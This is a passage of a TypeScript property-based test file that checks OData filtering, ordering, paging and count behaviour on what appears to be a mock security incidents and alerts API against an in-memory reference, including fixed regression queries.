  expect(got, `page${where}`).toEqual(expected.slice(skip, skip + top));
  if (q.count) {
    expect(res.body["@odata.count"], `@odata.count${where}`).toBe(expected.length);
    // The /$count segment takes the same $filter through its own query.
    const countUrl = `/v1.0/security/${entitySet}/$count${q.filter === undefined ? "" : `?$filter=${encodeURIComponent(q.filter)}`}`;
    const counted = await t.get(countUrl, PREFER);
    expect(counted.status, `status of /$count${where}\n  ${counted.text}`).toBe(200);
    expect(counted.text, `/$count${where}`).toBe(String(expected.length));
  } else {
    expect(res.body["@odata.count"], `no @odata.count${where}`).toBeUndefined();
  }
  const next = res.body["@odata.nextLink"] as string | undefined;
  expect(next !== undefined, `@odata.nextLink present${where}`).toBe(expected.length > skip + top);

  stats.runs++;
  if (matched.length > 0 && matched.length < rows.length) stats.nonTrivial++;

  const pages = Math.ceil((expected.length - skip) / top);
  if (q.follow && next !== undefined && pages <= 25) {
    stats.followed++;
    const all = [...got];
    let link: string | undefined = next;
    while (link !== undefined) {
      const page = await t.get(pathOf(link), PREFER);
      expect(page.status, `nextLink ${link}${where}\n  ${page.text}`).toBe(200);
      all.push(...(page.body.value as Entity[]).map((row) => String(row.id)));
      if (q.count) expect(page.body["@odata.count"], `@odata.count on a later page${where}`).toBe(expected.length);
      link = page.body["@odata.nextLink"] as string | undefined;
      expect(all.length, `nextLink goes past the end${where}`).toBeLessThanOrEqual(expected.length);
    }
    expect(all, `all pages${where}`).toEqual(expected.slice(skip));
  }
}

/**
 * Queries that once failed, run before the random ones (fast-check `examples`), so each fixed bug
 * stays covered whatever the seed.
 */
function regressions(which: "incidents" | "alerts_v2", rows: Entity[]): Query[] {
  const q = (over: Partial<Query>): Query => ({
    filter: undefined,
    orderby: [],
    top: undefined,
    skip: undefined,
    count: true,
    select: false,
    follow: true,
    ...over,
  });
  const asc = (property: string) => [{ property, direction: "asc" as const, written: `${property} asc` }];
  // The last instant there is, written with an offset (a later one, year 10000 in UTC, is a 400).
  const farFuture = q({ filter: "createdDateTime lt 9999-12-31T18:59:59.999-05:00 and not (createdDateTime ge 9999-12-31T18:59:59.999-05:00)" });
  if (which === "incidents") {
    return [
      // NULL and '' tied in the order (a '' sentinel for NULL).
      q({ orderby: asc("assignedTo"), top: 50 }),
      q({ orderby: asc("displayName"), top: 50 }),
      // customTags: null iterated as one null element.
      q({ filter: "customTags/any(t: t ne 'zz') or not customTags/all(t: t eq 'vip')" }),
      farFuture,
    ];
  }
  // An evidence date-time stored in a non-canonical form (offset, 7 fraction digits), and its instant.
  const sent = rows
    .flatMap((a) => (a.evidence as Entity[]).map((e) => e.createdDateTime as unknown))
    .find((v): v is string => typeof v === "string" && !/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/.test(v));
  const instant = new Date(Date.parse(sent ?? "2026-01-01T00:00:00Z")).toISOString();
  return [
    q({ orderby: asc("title"), top: 100 }),
    // A top-level column inside a lambda resolved to json_each's own "id".
    q({ filter: "categories/any(c: startswith(id, 'al') or id gt 'AL')" }),
    // A type cast on a nested lambda's collection was ignored.
    q({ filter: "evidence/any(e: e/microsoft.graph.security.deviceEvidence/roles/any(r: r eq 'attacked'))" }),
    // Evidence date-times compared as text, not instants.
    q({ filter: `evidence/any(e: e/createdDateTime eq ${instant}) and evidence/any(e: e/createdDateTime ge ${instant})` }),
    farFuture,
  ];
}

// ── the tests ─────────────────────────────────────────────────────────────────────────────────────

describe("$filter/$orderby/$top/$skip/$count agree with an in-memory reference", () => {
  let t: TestTriage;
  let incidents: Entity[];
  let alerts: Entity[];

  beforeAll(async () => {
    // The random trees are far larger than people write (up to a few hundred nodes and a dozen
    // lambdas): this test is about what a filter means, so the cost limits are lifted.
    t = await startTriage({ filterLimits: { maxNodes: 100_000, maxLambdas: 10_000 } });
    const r = random(DATA_SEED);
    const generated = buildAlerts(r);
    for (let i = 0; i < generated.length; i += 60) {
      const res = await t.ingest(generated.slice(i, i + 60));
      if (res.status !== 200) throw new Error(`ingest: ${res.status} ${res.text}`);
    }

    const before = (await readAll(t, "/v1.0/security/incidents?$top=50")).value;
    for (const inc of before) {
      if (inc.status === "redirected" || !r.chance(0.6)) continue;
      for (let n = r.chance(0.2) ? 2 : 1; n > 0; n--) {
        const res = await t.request("PATCH", `/v1.0/security/incidents/${inc.id}`, { body: incidentPatch(r) });
        if (res.status !== 200) throw new Error(`PATCH incident ${inc.id}: ${res.status} ${res.text}`);
      }
    }
    for (const a of generated) {
      if (!r.chance(0.5)) continue;
      const res = await t.request("PATCH", `/v1.0/security/alerts_v2/${encodeURIComponent(String(a.id))}`, { body: alertPatch(r) });
      if (res.status !== 200) throw new Error(`PATCH alert ${String(a.id)}: ${res.status} ${res.text}`);
    }

    incidents = (await readAll(t, "/v1.0/security/incidents?$top=50")).value;
    const alertRead = await readAll(t, "/v1.0/security/alerts_v2?$top=2000");
    expect(alertRead.pages).toBe(1);
    alerts = alertRead.value;
  });

  afterAll(async () => {
    await t?.close();
  });

  it("has data varied enough for the properties to mean something", () => {
    expect(alerts).toHaveLength(ALERT_COUNT);
    const perIncident = new Map<string, number>();
    for (const a of alerts) perIncident.set(a.incidentId, (perIncident.get(a.incidentId) ?? 0) + 1);
    expect([...perIncident.values()].filter((n) => n > 1).length).toBeGreaterThan(10);
    const statuses = new Set(incidents.map((i) => i.status));
    for (const s of ["active", "resolved", "inProgress", "redirected"]) expect(statuses).toContain(s);
    expect(incidents.some((i) => i.assignedTo === null) && incidents.some((i) => i.assignedTo === "")).toBe(true);
    expect(incidents.some((i) => i.classification === null) && incidents.some((i) => i.customTags === null)).toBe(true);
    expect(incidents.some((i) => i.priorityScore === null)).toBe(true);
    expect(new Set(incidents.map((i) => i.createdDateTime)).size).toBeLessThan(incidents.length);
    expect(alerts.some((a) => a.firstActivityDateTime === null) && alerts.some((a) => a.title === null)).toBe(true);
    const types = new Set(alerts.flatMap((a) => (a.evidence as Entity[]).map((e) => e["@odata.type"])));
    expect(types.size).toBeGreaterThanOrEqual(9);
  });

  it("types evidence roles elements as evidenceRole members (eq, ne and in only)", async () => {
    const get = (filter: string) => t.get(`/v1.0/security/alerts_v2?$filter=${encodeURIComponent(filter)}&$top=2000`, PREFER);
    const notMember = await get("evidence/any(e: e/roles/any(r: r eq 'nonsense'))");
    expect(notMember.status, notMember.text).toBe(400);
    expect(notMember.text).toContain("is not a valid enumeration type constant");
    const ordered = await get("evidence/any(e: e/roles/any(r: r gt 'attacked'))");
    expect(ordered.status, ordered.text).toBe(400);
    expect(ordered.text).toContain("supports only eq, ne and in");
    const anyCase = await get("evidence/any(e: e/roles/any(r: r eq 'ATTACKED'))");
    expect(anyCase.status, anyCase.text).toBe(200);
    const expected = alerts
      .filter((a) => (a.evidence as Entity[]).some((e) => Array.isArray(e.roles) && e.roles.includes("attacked")))
      .map((a) => String(a.id));
    expect(expected.length).toBeGreaterThan(0);
    expect((anyCase.body.value as Entity[]).map((a) => String(a.id)).sort()).toEqual(expected.sort());
  });

  for (const which of ["incidents", "alerts_v2"] as const) {
    it(`${which}: random filters, orderings and pages match the reference`, { timeout: 120_000 }, async () => {
      const model = which === "incidents" ? incidentModel : alertModel;
      const rows = which === "incidents" ? incidents : alerts;
      const defaultTop = which === "incidents" ? 50 : 100;
      const stats: Stats = { runs: 0, nonTrivial: 0, followed: 0 };
      const pools = collectPools(rows, model);
      await fc.assert(
        fc.asyncProperty(queryArb(model, pools, which === "incidents" ? 50 : 100), (q) => checkQuery(t, which, model, rows, defaultTop, q, stats)),
        { seed: FC_SEED, numRuns: RUNS, examples: regressions(which, rows).map((q) => [q] as [Query]) },
      );
      console.log(
        `${which}: ${stats.runs} queries, ${stats.nonTrivial} with a filter matching some but not all, ${stats.followed} followed to the end (seed ${FC_SEED})`,
      );
      expect(stats.nonTrivial).toBeGreaterThan(RUNS * 0.3);
    });
  }
});
